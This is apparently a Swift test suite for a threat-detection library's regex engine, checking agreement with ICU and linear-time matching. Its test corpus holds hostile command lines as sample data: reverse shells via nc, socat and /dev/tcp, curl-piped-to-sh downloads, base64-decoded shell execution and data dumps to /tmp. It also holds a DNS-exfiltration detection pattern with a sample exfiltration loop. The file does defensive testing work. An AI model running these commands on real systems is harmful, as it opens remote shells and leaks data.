import Foundation
import Testing
@testable import MamoriDetection

/// `FastRegex` must agree with ICU (NSRegularExpression) on every pattern it accepts: the
/// patterns of the SigmaHQ snapshot and of the rule pack, plus edge cases, over a corpus of
/// command lines, paths and line-terminator cases, and random strings.
@Suite struct FastRegexTests {
    static let edgePatterns = [
        "a.b", "ab$", "^b", #"a\sb"#, "(?m)^b", "(?m)a$", "(?m)^$", #"\bfoo\b"#, #"\Bfoo"#, "x{2}y", "x{2,}y", "x{1,3}?y",
        "[a-]", "[]a]", "[^/]{3,}$", "(ab|a)c", "(a|ab)(c|bcd)(d*)", "(?:a|b)+c", #"^\S+\s+\S+$"#, "(?i)AbC[x-z]",
        #"\d{1,3}\.\d{1,3}"#, #"[\w.-]+@[\w-]+"#, #"\A\s*$"#, #"foo\Z"#, "(?<name>ab)+", "(?P<n>x)y", "a|", "(|a)b",
    ]

    static let corpus: [String] = [
        "", "a", "ab", "abc", "ab\n", "ab\r\n", "ab\n\n", "a\nb", "a\rb", "a\r\nb", "a\u{0B}b", "a\u{0C}b", "a\tb", "a b",
        "foo", "a foo b", "afoo", "foo_", "foo-", "xxy", "xy", "xxxxy", "aab", "abc", "abbc", "abcd", "ABC", "abz", "AbX",
        "ls -la /var/log/nginx", "ls -lid /", "ls --inode /tmp", "cat /etc/os-release", "systemctl is-active nginx",
        "systemctl stop firewalld", "curl -s http://10.1.2.3/x | sh", "wget -O /tmp/x https://1.2.3.4/p.tar --no-check-certificate",
        "nc -e /bin/sh 10.0.0.1 4444", "socat tcp-listen:4444 exec:/bin/sh", "bash -i >& /dev/tcp/10.0.0.1/4444 0>&1",
        "python3 -c 'import pty; pty.spawn(\"/bin/bash\")'", "tar czf /tmp/.x/e.tgz /etc", "mysqldump -u root db > /tmp/d.sql",
        "echo ZWNobyAvYmluL3No | base64 -d | sh", "/tmp/.hidden/run", "/dev/shm/x", "sh /tmp/.a/b.sh", "crontab -l",
        "/var/log/app.log.1", "/var/log/app.log", "report.bak", "x.dpkg-old", "name.rpmnew", "ping -W '4f 4f 4f' x",
        String(repeating: "a", count: 120), String(repeating: "/x", count: 60), "user@example.com", "a.b.c.d 1.22.333.4",
    ]

    static func rulePatterns() -> [(String, Bool, Bool, Bool)] {
        var out: [(String, Bool, Bool, Bool)] = edgePatterns.map { ($0, false, false, false) }
        for dir in [BenchmarkWorkload.sigmaDirectory, BenchmarkWorkload.packDirectory] {
            guard case .success(let sources) = RuleLoader.sources(inDirectory: dir, origin: .sigma) else { continue }
            for source in sources {
                for line in source.text.split(separator: "\n") where line.contains("|re") && line.contains(":") {
                    guard let colon = line.range(of: ": ") else { continue }
                    let key = line[..<colon.lowerBound]
                    var value = String(line[colon.upperBound...]).trimmingCharacters(in: .whitespaces)
                    if let hash = value.range(of: " #") { value = String(value[..<hash.lowerBound]).trimmingCharacters(in: .whitespaces) }
                    if value.hasPrefix("'") && value.hasSuffix("'") && value.count >= 2 {
                        value = String(value.dropFirst().dropLast()).replacingOccurrences(of: "''", with: "'")
                    } else if value.hasPrefix("-") || value.isEmpty || value.hasPrefix("[") || value.hasPrefix("\"") {
                        continue
                    }
                    out.append((value, key.contains("|i"), key.contains("|m"), key.contains("|s")))
                }
            }
        }
        return out
    }

    private func icu(_ p: String, _ i: Bool, _ m: Bool, _ s: Bool) -> NSRegularExpression? {
        var options: NSRegularExpression.Options = []
        if i { options.insert(.caseInsensitive) }
        if m { options.insert(.anchorsMatchLines) }
        if s { options.insert(.dotMatchesLineSeparators) }
        return try? NSRegularExpression(pattern: p, options: options)
    }

    @Test func agreesWithICU() {
        let patterns = Self.rulePatterns()
        var accepted = 0, checks = 0
        var scratch = FastRegex.Scratch()
        var rng = SystemRandomNumberGenerator()
        let alphabet = Array("ab xc-/.\t\n\r\u{0B}09_AZ|'\"=:".unicodeScalars)
        for (pattern, i, m, s) in patterns {
            guard let fast = FastRegex(pattern: pattern, caseInsensitive: i, multiline: m, dotAll: s),
                  let reference = icu(pattern, i, m, s) else { continue }
            accepted += 1
            var inputs = Self.corpus
            for _ in 0..<40 {
                var t = String.UnicodeScalarView()
                for _ in 0..<Int.random(in: 0...12, using: &rng) { t.append(alphabet.randomElement(using: &rng)!) }
                inputs.append(String(t))
            }
            for text in inputs {
                let expected = reference.firstMatch(in: text, range: NSRange(location: 0, length: text.utf16.count)) != nil
                let bytes = Array(text.utf8)
                let got = fast.matches(bytes.span, scratch: &scratch)
                checks += 1
                #expect(got == expected, "\(pattern.debugDescription) on \(text.debugDescription): fast \(got), ICU \(expected)")
            }
        }
        print("FastRegex: \(accepted) of \(patterns.count) patterns in its subset, \(checks) comparisons with ICU")
        #expect(accepted > patterns.count / 2)
    }

    @Test func pathologicalPatternsStayLinear() {
        // ICU backtracks exponentially here (a minute on 120 characters); the memo keeps the
        // fast matcher at program × text steps.
        var scratch = FastRegex.Scratch()
        let rx = FastRegex(pattern: "(a*)*b", caseInsensitive: false, multiline: false, dotAll: false)!
        #expect(rx.matches(Array(String(repeating: "a", count: 2000).utf8).span, scratch: &scratch) == false)
        #expect(rx.matches(Array((String(repeating: "a", count: 50) + "b").utf8).span, scratch: &scratch) == true)
    }

    @Test func rejectsWhatItDoesNotSupport() {
        for p in ["(?=a)b", "(?<!x)y", #"(a)\1"#, "a*+", #"\p{L}"#, #"[[:alpha:]]"#, "[é]", "[a-é]", #"\é"#, "(?x) a", "a(?i)b"] {
            #expect(FastRegex(pattern: p, caseInsensitive: false, multiline: false, dotAll: false) == nil, "\(p)")
        }
        var scratch = FastRegex.Scratch()
        let rx = FastRegex(pattern: "a.c", caseInsensitive: false, multiline: false, dotAll: false)!
        #expect(rx.matches(Array("aéc".utf8).span, scratch: &scratch))   // `.` is the whole character
        #expect(FastRegex(pattern: "(?i)é", caseInsensitive: false, multiline: false, dotAll: false) == nil)
        #expect(FastRegex(pattern: "é", caseInsensitive: true, multiline: false, dotAll: false) == nil)
    }

    /// Issue 13 finding 4: one non-ASCII byte used to send the value to ICU, which spent 1.5 s
    /// on this command line against the dns-exfiltration pattern. The value now stays on the
    /// memoised matcher: the states explored are bounded by program × (text + 1).
    @Test func nonASCIIInputStaysLinear() throws {
        let pattern = #"(base64|xxd\s+-p|base32|od\s+-A).*\|.*(while|xargs|for\s).*\b(dig|nslookup|host|drill)\b"#
        let rx = try #require(FastRegex(pattern: pattern, caseInsensitive: false, multiline: false, dotAll: false))
        var scratch = FastRegex.Scratch()
        let adversarial = "base64 é " + String(repeating: "| while ", count: 500) + "digx"
        let bytes = Array(adversarial.utf8)
        #expect(rx.matches(bytes.span, scratch: &scratch) == false)
        #expect(scratch.steps > 0 && scratch.steps <= rx.programCount * (bytes.count + 1))
        let hit = Array(("base64 é " + String(repeating: "| while ", count: 500) + "dig x").utf8)
        #expect(rx.matches(hit.span, scratch: &scratch))
        #expect(scratch.steps <= rx.programCount * (hit.count + 1))
        // Through RegexMatcher (the rule path), which has no other engine.
        let matcher = try RegexMatcher(pattern: pattern, caseInsensitive: false, multiline: false, dotAll: false)
        #expect(matcher.matches(adversarial) == false)
        #expect(matcher.matches("cat f | base64 é | while read l; do dig $l.x.example; done"))
    }

    @Test func nonASCIIInputSemantics() throws {
        var scratch = FastRegex.Scratch()
        func m(_ p: String, _ t: String) -> Bool {
            FastRegex(pattern: p, caseInsensitive: false, multiline: false, dotAll: false)!.matches(Array(t.utf8).span, scratch: &scratch)
        }
        #expect(m("café", "/home/u/café/run"))            // UTF-8 literal
        #expect(!m("café", "/home/u/cafe/run"))
        #expect(m("^é+$", "ééé"))                          // quantifier repeats the whole character
        #expect(!m("^é+$", "éè"))
        #expect(m("^a.b$", "aéb") && m("^a.b$", "a😀b"))  // `.` consumes one character
        #expect(!m("^a..b$", "aéb"))
        #expect(m("^[^/]+$", "naïve") && !m("^[^/]+$", "na/ïve"))
        #expect(m(#"^\S+$"#, "héllo") && !m(#"^\w+$"#, "héllo"))
        #expect(m(#"x\Wy"#, "x—y"))
        #expect(!m("[a-z]", "éü"))
        // An event field can hold invalid UTF-8: a lone byte is one character.
        let invalid: [UInt8] = [0x61, 0xFF, 0x62, 0x80]
        let rx = FastRegex(pattern: "^a.b.$", caseInsensitive: false, multiline: false, dotAll: false)!
        #expect(rx.matches(invalid.span, scratch: &scratch))
    }
}
